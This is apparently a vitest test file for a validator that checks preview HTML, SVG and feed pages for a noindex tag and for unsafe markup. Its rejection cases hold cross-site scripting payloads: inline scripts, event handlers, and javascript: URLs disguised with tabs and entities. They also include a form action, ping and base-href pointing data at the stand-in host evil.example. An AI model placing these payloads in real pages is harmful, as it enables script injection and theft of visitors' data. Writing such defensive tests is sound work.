import { describe, expect, it } from 'vitest';
import { pageFaults } from '../../src/commands/preview/page-rules.ts';

const BASE = 'https://record.example/preview/pr-7/';
const NOINDEX = '<meta name="robots" content="noindex"/>';
const page = (body: string, head = NOINDEX) =>
  `<!DOCTYPE html><html><head><meta charset="utf-8"/>${head}</head><body>${body}</body></html>`;
const faults = (html: string, file = 'a/index.html') => pageFaults(html, file, BASE);

describe('a page of a preview', () => {
  it.each([
    ['text', '<p style="color: red">onclick= javascript: &lt;script&gt;</p>'],
    ['links to anywhere', '<a href="https://example.org/">x</a><a href="mailto:a@b.example">x</a>'],
    ['its own script', '<script type="module" src="/preview/pr-7/assets/main.js"></script>'],
    ['its own script, from here', '<script src="../assets/main.js"></script>'],
    ['its data', '<script type="application/ld+json">{"a":1}</script>'],
    ['a form that searches the site', '<form action="/preview/pr-7/search/"></form>'],
    ['drawings', '<svg><use href="#sign"/><path d="M0 0"/></svg>'],
  ])('may hold %s', (_name, body) => {
    expect(faults(page(body))).toEqual([]);
  });

  it.each([
    ['in an attribute of it', NOINDEX],
    ['with more words', '<meta content="nofollow, NOINDEX" name="Robots">'],
    [
      'beside a redirect of its own',
      `<meta http-equiv="refresh" content="0; url=../b/">${NOINDEX}`,
    ],
  ])('keeps search engines out %s', (_name, head) => {
    expect(faults(page('', head))).toEqual([]);
  });

  it.each([
    ['nowhere', ''],
    ['in a comment', `<!-- ${NOINDEX} -->`],
    ['in a title', `<title>${NOINDEX}</title>`],
    ['in a template', `<template>${NOINDEX}</template>`],
    ['without scripts alone', `<noscript>${NOINDEX}</noscript>`],
    ['in a style', `<style>${NOINDEX}</style>`],
    ['after the head', `</head><body><p>${NOINDEX}`],
    ['in another name', '<meta name="robot" content="noindex">'],
    ['as a part of a word', '<meta name="robots" content="noindexed">'],
  ])('does not keep search engines out %s', (_name, head) => {
    expect(faults(page('', head))).toContain('does not keep search engines out');
  });

  it.each<[string, string, RegExp]>([
    ['a script of its own making', '<script>alert(1)</script>', /runs a script/],
    ['a script in another case', '<ScRiPt src=//evil.example/x.js></sCrIpT>', /runs a script/],
    ['a script of the site itself', '<script src="/assets/main.js"></script>', /runs a script/],
    ['a script as data', '<script src="data:text/javascript,1"></script>', /runs a script/],
    ['a script that climbs', '<script src="../../pr-8/x.js"></script>', /runs a script/],
    [
      'data that is loaded',
      '<script type="application/ld+json" src="https://evil.example/x"></script>',
      /runs a script/,
    ],
    ['a handler', '<p onclick=alert(1)>x</p>', /script in an attribute/],
    ['a handler in a drawing', '<svg ONLOAD="alert(1)"></svg>', /script in an attribute/],
    ['an address that is code', '<a href=" java\tscript:alert(1)">x</a>', /runs or holds code/],
    ['one by entities', '<a href="&#106;avascript:alert(1)">x</a>', /runs or holds code/],
    ['one in a drawing', '<svg><a xlink:href="javascript:alert(1)"/></svg>', /runs or holds code/],
    ['a page as data', '<a href="data:text/html,x">x</a>', /runs or holds code/],
    ['another base', '<base href="https://evil.example/">', /<base>/],
    ['a frame', '<iframe srcdoc="<script>1</script>"></iframe>', /<iframe>/],
    ['a program', '<object data="x.swf"></object><embed src="x.swf">', /<object>/],
    ['a picture from elsewhere', '<img src="https://evil.example/x.png">', /from outside/],
    ['pictures from elsewhere', '<img srcset="a.png 1x, //evil.example/x.png 2x">', /from outside/],
    ['a style from elsewhere', '<link rel=stylesheet href=//evil.example/x.css>', /from outside/],
    ['a form to elsewhere', '<form action="https://evil.example/"></form>', /sends it there/],
    ['a ping', '<a href="../b/" ping="https://evil.example/">x</a>', /sends it there/],
    [
      'a way out by itself',
      '<meta http-equiv=Refresh content="0;URL=\'https://evil.example/\'">',
      /sends its reader elsewhere/,
    ],
    ['a cookie', '<meta http-equiv="set-cookie" content="a=b">', /gives orders/],
    ['another encoding', '<meta charset="iso-2022-jp">', /an encoding other/],
    [
      'an address that changes',
      '<svg><a><animate attributeName="href" to="x"/></a></svg>',
      /changes an address/,
    ],
  ])('is refused for %s', (_name, body, message) => {
    expect(faults(page(body)).join('\n')).toMatch(message);
  });

  it.each<[string, string, string, RegExp]>([
    ['a drawing with a script', 'a.svg', '<svg><script>alert(1)</script></svg>', /runs a script/],
    ['a handler in it', 'a.svg', '<svg onload="alert(1)"/>', /script in an attribute/],
    ['a page in it', 'a.svg', '<svg><foreignObject><p/></foreignObject></svg>', /<foreignobject>/],
    ['a link that is code', 'a.svg', '<svg><a href="javascript:1"/></svg>', /runs or holds code/],
    [
      'a script in a feed, by a prefix',
      'feed.xml',
      '<feed xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></feed>',
      /runs a script/,
    ],
    [
      'a style sheet that is a program',
      'feed.xml',
      '<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><feed/>',
      /instruction/,
    ],
    ['entities', 'a.svg', '<!DOCTYPE svg [<!ENTITY a "b">]><svg>&a;</svg>', /entities/],
  ])('other markup is refused for %s', (_name, file, text, message) => {
    expect(faults(text, file).join('\n')).toMatch(message);
  });
});
